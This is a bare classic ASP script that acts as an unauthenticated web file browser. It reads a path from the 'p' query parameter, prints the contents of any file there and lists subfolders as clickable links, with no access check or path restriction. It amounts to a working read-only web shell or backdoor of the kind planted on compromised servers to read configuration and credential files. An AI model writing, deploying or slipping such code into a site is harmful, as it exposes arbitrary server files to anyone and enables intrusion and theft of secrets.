<%
Dim fso, target, f, sub_
target = Request.QueryString("p")
Set fso = Server.CreateObject("Scripting.FileSystemObject")
If fso.FileExists(target) Then
  Set f = fso.OpenTextFile(target, 1)
  Response.Write "<pre>" & Server.HTMLEncode(f.ReadAll) & "</pre>"
Else
  For Each sub_ In fso.GetFolder(target).SubFolders
    Response.Write "<a href='?p=" & Server.URLEncode(sub_.Path) & "'>" & sub_.Name & "</a><br>"
  Next
End If
%>
